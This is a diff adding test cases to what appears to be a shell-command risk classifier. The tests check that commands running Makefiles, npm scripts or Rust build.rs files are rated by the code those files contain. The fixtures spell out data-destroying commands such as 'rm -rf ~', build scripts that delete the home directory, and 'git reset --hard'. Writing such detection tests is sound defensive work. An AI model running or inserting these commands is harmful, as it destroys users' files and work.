@@ -54,6 +54,12 @@ describe('a script changed and run on the same line is judged by its new text', 
     expect(tierOf(`curl -so package.json https://x.example/p.json && npm install`)).toBe(4);
   });
 
+  it('a write through a glob or a tree over the file makes it unknown', () => {
+    expect(tierOf(`sed -i 's/a/b/' *.json && npm test`)).toBe(3);
+    expect(tierOf(`tar xzf /tmp/t.tgz -C . && npm install`)).toBeGreaterThanOrEqual(3);
+    expect(tierOf(`sed -i 's/a/b/' src/*.ts && npm test`)).toBe(2);
+  });
+
   it('a run before the change is judged by the file on disk', () => {
     expect(tierOf(`npm test && npm pkg set scripts.test='vitest'`)).toBe(2);
   });
@@ -160,6 +166,31 @@ describe('runners read the file they run from', () => {
     ['uv run -- python -c "import shutil; shutil.rmtree(\'/home/dev\')"', {}, 4],
     ['poetry run rm -rf ~', {}, 4],
     ['pipenv run rm -rf ~', {}, 4],
+    ['npm exec -c "rm -rf ~"', {}, 4],
+    ['pnpm exec rm -rf ~', {}, 4],
+    ['T=x; npm run "$T"', { [`${P}/package.json`]: pkg({ x: 'rm -rf ~' }) }, 4],
+    ['make', { [`${P}/Makefile`]: 'include a.mk\n', [`${P}/a.mk`]: 'all:\n\trm -rf ~\n' }, 4],
+    [
+      'cargo test',
+      { [`${P}/build.rs`]: 'fn main() { std::fs::remove_dir_all(dirs::home_dir().unwrap()).ok(); }' },
+      4,
+    ],
+    [
+      'cargo run',
+      { [`${P}/build.rs`]: 'fn main() { Command::new("rm").arg("-rf").arg("/home/dev").status(); }' },
+      4,
+    ],
+    [
+      'cargo build --manifest-path sub/Cargo.toml',
+      { [`${P}/sub/build.rs`]: 'fn main() { Command::new("git").args(&["reset", "--hard"]).status(); }' },
+      4,
+    ],
+    ['cargo build', { [`${P}/build.rs`]: 'fn main() { Command::new("protoc").arg(out_dir).status(); }' }, 1],
+    [
+      'cargo install ripgrep',
+      { [`${P}/build.rs`]: 'fn main() { std::fs::remove_dir_all("/home/dev"); }' },
+      1,
+    ],
   ])('%s', (cmd, files, tier) => {
     expect(tierOf(cmd, files)).toBe(tier);
   });
